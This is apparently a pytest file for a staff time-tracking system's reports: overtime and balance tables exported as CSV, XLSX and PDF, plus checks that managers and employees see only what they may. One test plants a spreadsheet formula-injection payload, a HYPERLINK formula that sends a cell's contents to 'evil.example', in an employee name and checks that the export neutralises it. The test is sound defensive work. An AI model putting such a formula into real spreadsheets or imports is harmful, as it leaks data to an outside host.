"""The reports of seed 001 as CSV, XLSX and PDF, and the employee's monthly PDF."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import openpyxl
import pytest
import sqlalchemy as sa
from sqlalchemy.orm import Session
from world import World, world

from server.errors import NotAllowed
from server.office import reports
from server.office.summary import month_summary


@pytest.fixture
def school(db_engine: sa.Engine) -> Iterator[World]:
    with Session(db_engine) as session:
        w = world(session, "school")
        # Ann: 1h of paid overtime; Cat (library): 20 minutes late, not tolerated.
        w.stamps("ann", date(2026, 4, 16), "in 07:30, out 13:00, in 13:30, out 16:12 code STRP")
        w.stamps("cat", date(2026, 4, 16), "in 07:50, out 14:42")
        yield w


def test_the_overtime_report_holds_the_figures_in_xlsx(school: World) -> None:
    """Seed 001: "un tabulato nel quale vengono evidenziate le ore straordinarie ..., le ore
    ammesse al recupero e le ore considerate assenze ingiustificate"."""
    table = reports.institution_report(school.session, school.users["office"], 2026, 4,
                                       "overtime")
    sheet = openpyxl.load_workbook(io.BytesIO(reports.to_xlsx(table))).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=3, values_only=True))
    header, by_number = rows[0], {r[0]: r for r in rows[1:]}
    assert header[3] == "Straordinario retribuito / Overtime paid"
    assert by_number["ANN"][3] == 60
    # April 2026 has 21 working days (Easter Monday 6 April is a holiday): Ann worked one
    # of them, Cat one with a 20 minute shortfall (no entry window end in school.rules, so
    # negative flex), Bob none: each absent day is unjustified.
    assert by_number["CAT"][7] == 20 * (7 * 60 + 12)
    assert by_number["BOB"][7] == 21 * (7 * 60 + 12)
    assert by_number["CAT"][6] == 20


def test_the_balances_report_in_csv_and_pdf(school: World) -> None:
    table = reports.institution_report(school.session, school.users["office"], 2026, 4,
                                       "balances")
    rows = list(csv.reader(io.StringIO(reports.to_csv(table).decode("utf-8-sig"))))
    assert rows[0][:5] == ["Matricola / Number", "Nome / Name", "Unità / Unit",
                           "Lavorato / Worked", "Dovuto / Due"]
    ann = next(r for r in rows if r[0] == "ANN")
    assert ann[3:6] == [str(7 * 60 + 12), str(21 * 432), str(7 * 60 + 12 - 21 * 432)]
    pdf = reports.to_pdf(table)
    assert pdf.startswith(b"%PDF") and len(pdf) > 1000


def test_a_manager_gets_only_their_unit_and_an_employee_nothing(school: World) -> None:
    table = reports.institution_report(school.session, school.users["library_head"], 2026, 4,
                                       "balances")
    assert [r[0] for r in table.rows] == ["CAT"]
    with pytest.raises(NotAllowed):
        reports.institution_report(school.session, school.users["ann"], 2026, 4, "balances")


def test_the_employee_monthly_pdf(school: World) -> None:
    summary = month_summary(school.session, school.users["ann"], school.employees["ann"].id,
                            2026, 4)
    pdf = reports.employee_month_pdf(summary)
    assert pdf.startswith(b"%PDF") and pdf.rstrip().endswith(b"%%EOF")


def test_a_name_that_is_a_formula_stays_text_in_csv_and_xlsx(school: World) -> None:
    """A name imported from CSV as `=HYPERLINK(...)` must not become a live formula in the
    office's spreadsheet; the minutes (negative balances included) stay numbers."""
    school.employees["ann"].name = '=HYPERLINK("http://evil.example/?x="&A1,"Ann")'
    school.employees["ann"].unit = "@SUM(A1)"
    school.session.flush()
    table = reports.institution_report(school.session, school.users["office"], 2026, 4,
                                       "balances")
    book = openpyxl.load_workbook(io.BytesIO(reports.to_xlsx(table)))
    sheet = book.active
    assert sheet is not None
    ann = next(r for r in sheet.iter_rows(min_row=4) if r[0].value == "ANN")
    assert ann[1].data_type == "s"
    assert ann[1].value == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Ann\")"
    assert ann[2].value == "'@SUM(A1)"
    assert ann[5].data_type == "n" and ann[5].value == 7 * 60 + 12 - 21 * 432
    rows = list(csv.reader(io.StringIO(reports.to_csv(table).decode("utf-8-sig"))))
    ann_csv = next(r for r in rows if r[0] == "ANN")
    assert ann_csv[1].startswith("'=HYPERLINK(") and ann_csv[2] == "'@SUM(A1)"
    assert ann_csv[5] == str(7 * 60 + 12 - 21 * 432)
